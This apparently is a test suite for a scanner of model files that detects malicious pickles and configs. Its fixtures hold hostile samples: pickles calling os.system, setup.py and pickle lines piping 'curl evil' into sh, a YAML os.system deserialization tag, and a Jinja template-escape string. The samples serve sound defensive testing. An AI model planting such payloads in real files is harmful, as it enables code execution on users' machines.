import { cpSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ANALYZERS } from '../../src/analyzers/table.ts';
import { zip } from '../../src/formats/zip/archive.fixture.ts';
import { scratchFolder } from '../support/scratch.ts';
import { wb } from '../support/world.ts';

const home = scratchFolder();
const folder = join(home, 'models');
cpSync('examples/models/plover-1m-tainted', folder, { recursive: true });
const known = join(home, 'known.yaml');

describe('known findings', () => {
  it('written today are no news tomorrow, and a new one is', async () => {
    expect((await wb(['scan', folder, '--quiet', '--format', `known=${known}`], { home })).code).toBe(1);
    const again = await wb(['scan', folder, '--quiet', '--known', known], { home });
    expect(again.code, again.stdout).toBe(0);
    expect(again.stderr).toContain('left out');
    expect(again.stdout).toMatch(/known +\S+pytorch_model\.bin\n +malicious; 1 known finding left out: was there when/);
    expect(again.stdout).toMatch(/9 files: 1 malicious, .*; 3 of these for known findings alone/);
    writeFileSync(join(folder, 'new.pkl'), Buffer.from("cos\nsystem\n(S'true'\ntR."));
    const news = await wb(['scan', folder, '--quiet', '--known', known, '--format', 'jsonl'], { home });
    expect(news.code).toBe(1);
    const lines = news.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { path: string; newVerdict: string });
    expect(lines.filter(({ newVerdict }) => newVerdict !== 'clean').map(({ path }) => path)).toEqual([
      join(folder, 'new.pkl'),
    ]);
    rmSync(join(folder, 'new.pkl'));
  });

  it('are told with the bytes for which they were accepted', async () => {
    const { stdout } = await wb(['scan', folder, '--quiet', '--known', known, '--format', 'json'], { home });
    const files = (JSON.parse(stdout) as { files: { digest: { sha256: string }; known: { bytes: string }[] }[] }).files;
    const told = files.flatMap(({ digest, known: left }) => left.map(({ bytes }) => [bytes, digest.sha256]));
    expect(told.length).toBeGreaterThan(0);
    for (const [bytes, sha256] of told) expect(bytes).toBe(sha256);
  });

  it('stay in every report with their reasons, and make no file clean', async () => {
    const shelf = join(home, 'accepted');
    mkdirSync(shelf);
    writeFileSync(join(shelf, 'os.pkl'), "cos\nsystem\n(S'true'\ntR.");
    writeFileSync(join(shelf, 'broken.pkl'), Buffer.from('garbage\x80\x80', 'latin1'));
    const accepted = join(home, 'accepted.yaml');
    const rules = ['pickle-imports/starts-programs', 'unread-files/malformed'];
    writeFileSync(
      accepted,
      `apiVersion: weighbridge/v1\nkind: KnownFindings\nknown:\n${rules.map((rule) => `  - {rule: ${rule}, reason: looked at, until: 2999-12-31}\n`).join('')}`,
    );
    const as = async (format: string): Promise<string> => {
      const { code, stdout } = await wb(['scan', shelf, '-q', '--known', accepted, '--format', format], { home });
      expect(code).toBe(0);
      return stdout;
    };
    expect(JSON.parse(await as('json'))).toMatchObject({
      verdict: 'malicious',
      newVerdict: 'clean',
      counts: { malicious: 1, unscannable: 1, clean: 0 },
      coverage: { bytes: 32, understood: 23 },
      files: [
        { verdict: 'unscannable', newVerdict: 'clean', findings: [] },
        {
          verdict: 'malicious',
          newVerdict: 'clean',
          findings: [],
          known: [{ finding: { rule: rules[0] }, reason: 'looked at', until: '2999-12-31' }],
        },
      ],
    });
    expect(await as('junit')).toContain('failures="0" errors="0" skipped="2"');
    expect(await as('junit')).toContain('<skipped message="malicious; 1 known finding left out: looked at, until');
    expect(await as('sarif')).toContain('"justification": "looked at (known until 2999-12-31)"');
    const markdown = await as('markdown');
    expect(markdown).toContain('# Scan: ✗ malicious, all of it known');
    expect(markdown).toContain('| malicious | `looked at` | any | 31 December 2999 |');
    // What was accepted once stays so when the file is written again.
    expect(await as('known')).toContain('reason: "looked at"\n    until: 2999-12-31');
  });

  it('have a class of a library by its name, for every file', async () => {
    const pickled = Buffer.from('ccopy_reg\n_reconstructor\n(cours\nModel\nc__builtin__\nobject\nNtR.');
    const shelf = join(home, 'shelf');
    mkdirSync(shelf);
    writeFileSync(join(shelf, 'a.pkl'), pickled);
    const ours = join(home, 'ours.yaml');
    expect((await wb(['scan', shelf, '--quiet', '--format', `known=${ours}`], { home })).code).toBe(3);
    writeFileSync(join(shelf, 'b.pkl'), pickled);
    writeFileSync(join(shelf, 'c.pkl'), Buffer.from(pickled.toString().replace('Model', 'Other')));
    const { stdout } = await wb(['scan', shelf, '--quiet', '--known', ours], { home });
    expect(stdout).toContain('3 files: 3 suspicious; 2 of these for known findings alone');
    expect(stdout).toContain('weighbridge explain pickle-imports/unknown-class');
    const { stdout: explained } = await wb(['scan', shelf, '--quiet', '--verbose'], { home });
    expect(explained).toMatch(/\npickle-imports\/unknown-class\n {2}why {3}\S.*\n {2}do {4}\S.*\n {2}known CWE-502/s);
    expect(explained).toMatch(/pickle-imports\/unknown-class \(low, \w+\)/);
  });

  describe('answer for the bytes that were looked at', () => {
    const command = (tail: string): string => `cos\nsystem\n(S'${'a'.repeat(200)}${tail}${'b'.repeat(200)}'\ntR.`;
    const called = (count: number, last: string): string =>
      `${Array.from({ length: count }, () => "cos\nsystem\n(S'true'\ntR0").join('')}cos\nsystem\n(S'${last}'\ntR.`;
    const classes = (last: string): string =>
      [...Array.from({ length: 60 }, (_, at) => `C${at}`), last]
        .map((name) => `ccopy_reg\n_reconstructor\n(cours\n${name}\nc__builtin__\nobject\nNtR`)
        .join('0')
        .concat('.');
    const script = (more: string): string => `import os\nos.system('make docs')\n${more}`;
    const template = (tail: string): string =>
      JSON.stringify({ chat_template: `{{ ''.__class__.__mro__[1].__subclasses__() }}${' '.repeat(300)}${tail}` });
    const yaml = (what: string): string => `a: !!python/object/apply:os.system ["${what}"]\n`;

    it.each<[string, string, string, string]>([
      ['the middle of a long command', 'a.pkl', command('; echo ok '), command('; echo no ')],
      ['a call behind three thousand', 'b.pkl', called(3000, 'true'), called(3000, 'curl evil|sh')],
      ['a class behind sixty known ones', 'c.pkl', classes('Model'), classes('Motel')],
      ['a line of a script', 'setup.py', script(''), script("os.system('curl evil | sh')\n")],
      ['the end of a template', 'tokenizer_config.json', template('{{ 1 }}'), template('{{ 2 }}')],
      ['an argument in YAML', 'conf.yaml', yaml('echo ok'), yaml('curl x')],
      ['one letter of a file that cannot be read', 'd.pkl', 'garbage\u0001', 'garbaga\u0001'],
    ])('and so %s makes the finding new', async (_, name, before, after) => {
      const shelf = join(scratchFolder(), 'shelf');
      mkdirSync(shelf);
      writeFileSync(join(shelf, name), before);
      const accepted = join(shelf, '..', 'known.yaml');
      const first = await wb(['scan', shelf, '-q', '--format', `known=${accepted}`], { home });
      expect(first.code).not.toBe(0);
      expect((await wb(['scan', shelf, '-q', '--known', accepted], { home })).code).toBe(0);
      writeFileSync(join(shelf, name), after);
      expect((await wb(['scan', shelf, '-q', '--known', accepted], { home })).code).not.toBe(0);
    });

    it('wherever their folder lies, and however the way to it is spelt', async () => {
      const place = scratchFolder();
      const deep = join(place, 'm', 'sub');
      mkdirSync(deep, { recursive: true });
      writeFileSync(join(deep, 'a.pkl'), command('; echo ok '));
      const accepted = join(place, 'known.yaml');
      const from = relative(process.cwd(), place);
      const code = async (way: string): Promise<number> =>
        (await wb(['scan', way, '-q', '--known', accepted], { home, cwd: process.cwd() })).code;
      await wb(['scan', `${from}/m`, '-q', '--format', `known=${accepted}`], { home });
      const ways = [
        `${from}/m`,
        `./${from}/m`,
        `${from}/m/`,
        `${from}/m/.`,
        `${place}/m`,
        `${from}/m/sub`,
        `${deep}/a.pkl`,
      ];
      for (const way of ways) expect([way, await code(way)]).toEqual([way, 0]);
      const row = '{rule: remote-code/auto-map, path: examples/models, reason: ours}';
      writeFileSync(accepted, `apiVersion: weighbridge/v1\nkind: KnownFindings\nknown:\n  - ${row}\n`);
      const tainted = 'examples/models/plover-1m-tainted';
      const left = async (way: string): Promise<string> =>
        (await wb(['scan', way, '-q', '--known', accepted], { home, cwd: process.cwd() })).stderr;
      for (const way of [tainted, `./${tainted}`, join(process.cwd(), tainted), `${tainted}/config.json`])
        expect([way, await left(way)]).toEqual([way, expect.stringContaining('left out')]);
    });
  });

  it('are never taken from the folder that is scanned', async () => {
    const inside = join(folder, 'own.yaml');
    writeFileSync(inside, 'apiVersion: weighbridge/v1\nkind: KnownFindings\nknown: []\n');
    const { code, stderr } = await wb(['scan', folder, '--known', inside], { home });
    rmSync(inside);
    expect([code, stderr]).toEqual([2, expect.stringContaining('own.yaml lies among')]);
  });

  it('are not taken from beside the files of another model, which is said', async () => {
    const own = join(home, 'own');
    mkdirSync(own);
    writeFileSync(join(own, 'config.json'), '{}');
    writeFileSync(join(own, 'known.yaml'), 'apiVersion: weighbridge/v1\nkind: KnownFindings\nknown: []\n');
    const { code, stderr } = await wb(['scan', folder, '--known', join(own, 'known.yaml')], { home });
    expect([code, stderr]).toEqual([2, expect.stringContaining('or of another model (config.json, weights)')]);
  });

  it('are not written where they would be refused, and a file that is given twice is one', async () => {
    const inside = join(folder, 'made.yaml');
    const refused = await wb(['scan', folder, '--format', `known=${inside}`], { home });
    expect([refused.code, refused.stderr, existsSync(inside)]).toEqual([
      2,
      expect.stringContaining('made.yaml lies among'),
      false,
    ]);
    const settings = join(folder, 'config.json');
    const { stdout } = await wb(['scan', settings, folder, settings, `${folder}/`, '--quiet'], { home });
    expect(stdout).toMatch(/^9 files: /m);
  });

  it('have their ends and slips of the pen remarked upon', async () => {
    const old = join(home, 'old.yaml');
    const rows = [
      '{rule: pickle-imports/starts-program, reason: x}',
      '{rule: file-names/hidden, reason: x, until: 2020-01-01}',
    ];
    writeFileSync(
      old,
      `apiVersion: weighbridge/v1\nkind: KnownFindings\nknown:\n${rows.map((row) => `  - ${row}\n`).join('')}`,
    );
    const { stderr } = await wb(['scan', folder, '--quiet', '--known', old], { home });
    expect(stderr).toContain('old.yaml: ended, and no longer heeded: file-names/hidden (2020-01-01)');
    expect(stderr).toContain('no rule of this scan: pickle-imports/starts-program');
  });

  it('are never taken from a file with a mistake', async () => {
    const wrong = join(home, 'wrong.yaml');
    writeFileSync(wrong, 'apiVersion: weighbridge/v1\nkind: KnownFindings\nknown:\n  - {reason: all of it}\n');
    const { code, stderr } = await wb(['scan', folder, '--known', wrong], { home });
    expect(code).toBe(2);
    expect(stderr).toContain('[known-invalid]');
  });
});

describe('JUnit', () => {
  it('has a case a file, and a failure for each that is not clean', async () => {
    const { stdout } = await wb(['scan', folder, '--quiet', '--format', 'junit'], { home });
    expect(stdout).toMatch(
      /^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="weighbridge scan" tests="9" failures="\d" errors="0" skipped="0">/,
    );
    expect(stdout).toMatch(/<failure type="malicious" message="[^"<]*posix\.system\(&apos;echo/);
  });
});

describe('explain', () => {
  it('knows every rule', async () => {
    const { stdout } = await wb(['explain'], { home });
    for (const { rules } of ANALYZERS) for (const { id } of rules) expect(stdout).toContain(id);
  });

  it('tells one whole, and refuses one that is not there', async () => {
    const own = await wb(['explain', 'guard/broken-text'], { home });
    expect([own.code, own.stdout]).toEqual([0, expect.stringContaining('half a character')]);
    const { stdout } = await wb(['explain', 'pickle-imports/runs-code'], { home });
    expect(stdout).toContain('Why it matters');
    expect(stdout).toContain('CWE-502');
    expect((await wb(['explain', 'pickle-imports/nothing'], { home })).stderr).toContain('[rule-not-found]');
  });

  it.each(['term/rival', 'form/brief', 'judge/advice', 'classifier/prompt-guard'])(
    'tells where %s comes from, which a policy names',
    async (type) => {
      const { code, stdout } = await wb(['explain', type], { home });
      expect([code, stdout]).toEqual([0, expect.stringContaining(`"${type.split('/')[0]}s" of the policy`)]);
      const { stdout: json } = await wb(['explain', type, '--format', 'json'], { home });
      expect(JSON.parse(json)).toMatchObject({ type, detector: `${type.split('/')[0]}s` });
    },
  );

  it.each([
    ['explain', 'EMAIL_ADDRESS'],
    ['disasm', 'model.pkl'],
    ['verify', 'models', '--decision', 'x.json'],
    ['scorecard', 'models'],
    ['dossier', 'list'],
    ['revet'],
    ['lineage', 'list'],
    ['model-signature', 'verify', 'models'],
    ['advisories', 'list'],
  ])('%s refuses a format that there is not, instead of another one', async (...call) => {
    const { code, stderr } = await wb([...call, '--format', 'jsno'], { home });
    expect([code, stderr.replace(/\s+/g, ' ')]).toEqual([2, expect.stringContaining("argument 'jsno' is invalid")]);
  });

  it.each([
    ['pickle-imports/run-code', 'did you mean pickle-imports/runs-code?'],
    ['pickel-imports/runs-code', 'did you mean pickle-imports/runs-code?'],
    ['runs-code', 'did you mean pickle-imports/runs-code'],
    ['pickle-imports/nothing', 'did you mean pickle-imports/'],
    ['EMAIL', 'did you mean EMAIL_ADDRESS?'],
    ['secrets/openai', 'did you mean secret/openai'],
  ])('says what was probably meant by %s', async (typed, said) => {
    expect((await wb(['explain', typed], { home })).stderr.replace(/\s+/g, ' ')).toContain(said);
  });
});

describe('disasm', () => {
  it('shows the program of a PyTorch zip, its calls marked', async () => {
    const { code, stdout } = await wb(['disasm', 'examples/models/plover-1m-tainted/pytorch_model.bin'], { home });
    expect(code).toBe(0);
    expect(stdout).toMatch(/REDUCE .*calls posix\.system\('echo weighbridge example payload ran'\)/);
    const lines = (
      await wb(['disasm', 'examples/models/plover-1m-tainted/pytorch_model.bin', '--format', 'jsonl'], { home })
    ).stdout;
    expect(lines.trimEnd().split('\n').length).toBe(stdout.trimEnd().split('\n').length);
  });

  it('opens what holds a pickle, and shows a member by the name that a scan gives it', async () => {
    const evil = Buffer.from("cos\nsystem\n(S'true'\ntR0N.");
    const gz = join(home, 'a.pkl.gz');
    writeFileSync(gz, gzipSync(evil));
    const joblib = join(home, 'z.joblib');
    writeFileSync(joblib, deflateSync(evil));
    for (const args of [[gz], [gz, '--member', 'a.pkl'], [joblib]]) {
      const { stdout } = await wb(['disasm', ...args], { home });
      expect(stdout).toMatch(/REDUCE .*calls os\.system\('true'\)\n.* POP +drops 1\n/);
    }
    expect((await wb(['disasm', gz, '--member', 'b.pkl'], { home })).stderr).toContain('there is no b.pkl in it');
    const weights = await wb(['disasm', 'examples/models/plover-1m/model.safetensors'], { home });
    expect([weights.code, weights.stdout]).toEqual([2, '']);
    expect(weights.stderr).toContain('it is safetensors, and holds none');
  });

  it('says what further pickles there are', async () => {
    const pickles = ['one', 'two', 'three'].map((word) => ({
      name: `in/${word}.pkl`,
      bytes: Buffer.from(`S'${word}'\n.`),
    }));
    const archive = join(home, 'three.zip');
    writeFileSync(archive, zip(pickles));
    const { stdout } = await wb(['disasm', archive], { home });
    expect(stdout).toMatch(/STRING +'one'/);
    expect(stdout).toMatch(
      /not listed: 2 more pickles in it, in\/two\.pkl, in\/three\.pkl; --member "in\/two\.pkl" shows one\n$/,
    );
    const second = await wb(['disasm', archive, '-m', 'in/two.pkl'], { home });
    expect(second.stdout).toMatch(/STRING +'two'/);
    expect(second.stdout).not.toContain('not listed');
    const nope = await wb(['disasm', archive, '-m', 'nope'], { home });
    expect(nope.code).toBe(2);
    expect(nope.stderr).toContain('there is no nope in it; there is in/one.pkl, in/two.pkl, in/three.pkl');
    const near = await wb(['disasm', archive, '-m', 'in/twoo.pkl'], { home });
    expect(near.stderr).toContain('did you mean in/two.pkl?');
  });

  it('says so when there is none', async () => {
    for (const other of ['README.md', 'package.json', 'biome.json']) {
      const { code, stdout, stderr } = await wb(['disasm', other], { home });
      expect([code, stdout], other).toEqual([2, '']);
      expect(stderr, other).toMatch(
        /There is no pickle to show.*no pickle: (?:the program breaks here: it (?:has|needs|takes|is)|it is json)/s,
      );
    }
    const { code, stderr } = await wb(['disasm', 'examples/models/plover-1m', '--format', 'text'], { home });
    expect(code).toBe(2);
    expect(stderr).toContain('[call-invalid]');
  });
});
